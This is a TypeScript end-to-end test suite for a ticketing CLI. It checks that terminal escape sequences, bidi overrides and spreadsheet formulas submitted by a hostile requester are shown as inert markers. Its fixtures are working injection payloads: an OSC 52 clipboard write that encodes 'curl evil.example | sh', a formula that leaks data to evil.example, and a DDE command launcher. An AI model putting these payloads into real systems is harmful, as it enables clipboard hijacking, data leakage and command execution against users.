// Text written through the real server by a hostile requester (OSC 52, OSC 8, ESC[8m, C1 controls,
// bidi overrides, U+2028, spreadsheet formulas), read back by an agent through the real CLI: no raw
// control or bidi character reaches stdout or stderr, JSON parses back to the very same strings,
// and CSV cells never start a formula.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, createTicket, json, serverForFile, tix, tixBin, type RunResult, type Ticket } from '../helpers/tix.js';
import { shq } from '../helpers/tmux.js';

const { server, users } = serverForFile();

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const OSC8 = '\u001b]8;;http://evil.example/\u001b\\docs\u001b]8;;\u001b\\';
const HIDDEN = '\u001b[8mrun this\u001b[0m';
const C1 = '\u009b2J\u0085\u009d0;title\u009c';
const BIDI = 'invoice\u202egpj.exe\u202c \u2066iso\u2069 \u202a\u202b\u202d';
const SEPARATORS = 'one\u2028two\u2029three';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

/** Any character the sanitizer must keep from a terminal; tabs and line feeds are the outputs' own layout. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let hostile: Ticket;
let formula: Ticket;
let dde: Ticket;
let escalationId: string;
let attachmentId: number;
let walked: Ticket;
const scratch = mkdtempSync(join(tmpdir(), 'tix-e2e-injection-'));

const asAgent = (args: string[]) => tix(args, { server, env: users.agent.env });
const clean = (r: RunResult, what: string) => {
  expect(r.stdout, `${what}: stdout`).not.toMatch(RAW);
  expect(r.stderr, `${what}: stderr`).not.toMatch(RAW);
};

beforeAll(async () => {
  const rita = users.acmeRequester.token;
  hostile = await createTicket(server, { subject: `Printer ${OSC52}${BIDI}`, description: `${OSC8}\n${HIDDEN}\n${SEPARATORS}${C1}` }, rita);
  // high, so that it comes first in the new queue the triage walk shows
  walked = await createTicket(server, { subject: `Walk ${OSC52}${BIDI}`, description: `${HIDDEN} ${C1}${SEPARATORS}`, priority: 'high', justification: 'the whole floor cannot print' }, rita);
  formula = await createTicket(server, { subject: HYPERLINK }, rita);
  dde = await createTicket(server, { subject: DDE }, rita);
  await api(server, 'POST', `/v1/tickets/${hostile.id}/comments`, { token: rita, body: { body: `see ${OSC8} ${HIDDEN}\n${C1}${SEPARATORS}`, public: true } });
  const escalated = await api<Ticket>(server, 'POST', `/v1/tickets/${hostile.id}/escalate`, { token: users.agent.token, body: { reason: `customer says ${OSC52} ${BIDI}` } });
  escalationId = escalated.escalation!;
  // the requester closes their own escalated ticket: the resolution lands in the timeline an agent reads
  await api(server, 'POST', `/v1/tickets/${hostile.id}/close`, { token: rita, body: { resolution: `${OSC52}${OSC8}${HIDDEN}${C1}${BIDI}${SEPARATORS}` } });
  const notes = join(scratch, 'notes.txt');
  writeFileSync(notes, `line one\n${OSC52}${HIDDEN}\nline three\n`);
  const commented = await tix(['comment', String(hostile.id), '--body', 'logs attached', '--attach', notes, '--json'], { server, env: users.agent.env });
  expect(commented.code, commented.stderr).toBe(0);
  attachmentId = json(commented).results[0].comment.attachments[0].id;
});

afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('tix list', () => {
  it('piped (tab-separated): one line per ticket, markers instead of controls', async () => {
    const r = await asAgent(['list', '--state', 'all']);
    expect(r.code, r.stderr).toBe(0);
    clean(r, 'list');
    const line = r.stdout.split('\n').find((l) => l.startsWith(`${hostile.id}\t`))!;
    expect(line).toContain('Printer \\u{1b}]52;c;');
    expect(line).toContain('invoice\\u{202e}gpj.exe');
  });

  it('--json and --format ndjson escape controls and bidi characters and parse back to the server\'s strings', async () => {
    for (const args of [['--json'], ['--format', 'ndjson']]) {
      const r = await asAgent(['list', '--state', 'all', ...args]);
      expect(r.code, r.stderr).toBe(0);
      clean(r, args.join(' '));
      const items: Ticket[] = args[0] === '--json' ? JSON.parse(r.stdout) : r.stdout.trim().split('\n').map((l) => JSON.parse(l));
      const fromCli = items.find((t) => t.id === hostile.id)!;
      expect(fromCli.subject).toBe(`Printer ${OSC52}${BIDI}`);
      expect(fromCli.description).toBe(`${OSC8}\n${HIDDEN}\n${SEPARATORS}${C1}`);
    }
  });

  it('--format csv quotes formula cells the OWASP way and cleans controls', async () => {
    const csv = await asAgent(['list', '--state', 'all', '--format', 'csv']);
    expect(csv.code, csv.stderr).toBe(0);
    clean(csv, 'csv');
    const lines = csv.stdout.split('\n');
    expect(lines.find((l) => l.startsWith(`${formula.id},`))).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`);
    expect(lines.find((l) => l.startsWith(`${dde.id},`))).toContain(`'${DDE}`);
    expect(csv.stdout).not.toMatch(/(^|,)"?[=+@-]/m);
  });
});

describe('tix show', () => {
  it('text view: subject, description, comments and events carry markers only', async () => {
    const r = await asAgent(['show', String(hostile.id), '--comments', '--events']);
    expect(r.code, r.stderr).toBe(0);
    clean(r, 'show');
    expect(r.stdout).toContain('\\u{1b}]8;;http://evil.example/');
    expect(r.stdout).toContain('\\u{2028}');
  });

  it('--json parses back to exactly what the server holds', async () => {
    const r = await asAgent(['show', String(hostile.id), '--comments', '--events', '--json']);
    expect(r.code, r.stderr).toBe(0);
    clean(r, 'show --json');
    const shown = json(r);
    expect(shown.subject).toBe((await api(server, 'GET', `/v1/tickets/${hostile.id}`)).subject);
    expect(shown.comments).toEqual((await api(server, 'GET', `/v1/tickets/${hostile.id}/comments`)).items);
    expect(shown.events).toEqual((await api(server, 'GET', `/v1/tickets/${hostile.id}/events`)).items);
  });
});

describe('tix escalation', () => {
  it('show: reason, timeline notes and `by` reach the agent as markers, each on its own line', async () => {
    const r = await asAgent(['escalation', 'show', escalationId]);
    expect(r.code, r.stderr).toBe(0);
    clean(r, 'escalation show');
    expect(r.stdout).toMatch(/reason +customer says \\u\{1b\}\]52;c;/);
    const closing = r.stdout.split('\n').filter((l) => l.includes('ticket closed:'));
    expect(closing).toHaveLength(1);
    expect(closing[0]).toContain(users.acmeRequester.login);
    expect(closing[0]).toContain('\\u{1b}[8mrun this');
  });

  it('show --json and list --json parse back to the server\'s escalation', async () => {
    const fromServer = await api(server, 'GET', `/v1/escalations/${escalationId}`);
    const shown = await asAgent(['escalation', 'show', escalationId, '--json']);
    expect(shown.code, shown.stderr).toBe(0);
    clean(shown, 'escalation show --json');
    expect(json(shown)).toEqual(fromServer);
    const listed = await asAgent(['escalation', 'list', '--state', 'all', '--json']);
    clean(listed, 'escalation list --json');
    expect(json(listed).find((e: { id: string }) => e.id === escalationId)).toEqual(fromServer);
  });

  it('list (tab-separated) keeps each escalation on one line', async () => {
    const r = await asAgent(['escalation', 'list', '--state', 'all']);
    expect(r.code, r.stderr).toBe(0);
    clean(r, 'escalation list');
    expect(r.stdout.split('\n').filter((l) => l.startsWith(`${escalationId}\t`))).toHaveLength(1);
  });
});

describe('errors', () => {
  const term = `ev\u001b]52;c;eA==\u0007\u202eil:1`;

  it('a server detail that repeats hostile input reaches stderr as markers (text and JSON)', async () => {
    const path = `/v1/tickets?q=${encodeURIComponent(term)}`;
    const text = await asAgent(['api', 'GET', path]);
    expect(text.code, text.stderr).toBe(2);
    clean(text, 'api error');
    expect(text.stderr).toContain('ev\\u{1b}]52;c;eA==\\u{7}\\u{202e}il');
    const asJson = await asAgent(['api', 'GET', path, '--json']);
    expect(asJson.code).toBe(2);
    clean(asJson, 'api error --json');
    expect(JSON.parse(asJson.stderr).error.message).toContain('\\u{202e}il');
  });

  it('a query term the CLI refuses is named with markers', async () => {
    const r = await asAgent(['list', term]);
    expect(r.code).toBe(2);
    clean(r, 'list error');
    expect(r.stderr).toContain('\\u{1b}]52');
  });
});

/**
 * Runs the built CLI on a real pseudo-terminal (util-linux `script`): what it wrote, raw. `answer` sees
 * the output so far and may return keys to type; the run is killed after 20 s.
 */
async function onTerminal(args: string[], env: Record<string, string | undefined>, answer?: (soFar: string) => string | undefined): Promise<RunResult> {
  const bin = await tixBin();
  const command = [process.execPath, bin, ...args].map(shq).join(' ');
  const child = spawn('script', ['-q', '-e', '-c', command, '/dev/null'], { env: { ...server.env, TERM: 'xterm', ...env } as NodeJS.ProcessEnv, stdio: ['pipe', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (s: string) => {
    stdout += s;
    const keys = answer?.(stdout);
    if (keys !== undefined) child.stdin.write(keys);
  });
  child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
  if (!answer) child.stdin.end();
  const killer = setTimeout(() => child.kill('SIGKILL'), 20_000);
  const code = await new Promise<number>((resolve, reject) => {
    child.once('error', (err) => reject(new Error(`util-linux \`script\` is needed to give the CLI a terminal (apt-get install bsdutils): ${err.message}`)));
    child.once('close', (c) => resolve(c ?? -1));
  }).finally(() => clearTimeout(killer));
  // the terminal turns each LF into CRLF
  return { code, stdout: stdout.replace(/\r\n/g, '\n'), stderr };
}

describe('tix api', () => {
  it('on a terminal, a text attachment\'s escape sequences are shown as markers', async () => {
    const r = await onTerminal(['api', 'GET', `/v1/attachments/${attachmentId}`], users.agent.env);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('line one\n\\u{1b}]52;c;');
    expect(r.stdout).toContain('line three');
  });

  it('piped, the attachment comes out byte for byte', async () => {
    const r = await asAgent(['api', 'GET', `/v1/attachments/${attachmentId}`]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`line one\n${OSC52}${HIDDEN}\nline three\n\n`);
  });

  it('on a terminal, the ticket view is clean too', async () => {
    const r = await onTerminal(['show', String(hostile.id), '--comments', '--events'], users.agent.env);
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('Printer \\u{1b}]52;c;');
  });
});

describe('the triage walk', () => {
  it('shows the ticket beside its prompts with markers, never the customer\'s escape sequences', async () => {
    let answered = false;
    // down, down, enter: "Quit" at the first prompt
    const r = await onTerminal(['triage'], users.agent.env, (soFar) => (!answered && soFar.includes(`Ticket #${walked.id}`) ? ((answered = true), '\u001b[B\u001b[B\r') : undefined));
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toContain(`#${walked.id}  Walk \\u{1b}]52;c;`);
    // inquirer draws with escape sequences of its own: look for the customer's
    for (const raw of ['\u001b]52', '\u001b]8', '\u001b[8m', '\u009b', '\u0085', '\u202e', '\u2066', '\u2028', '\u2029']) expect(r.stdout).not.toContain(raw);
  });
});
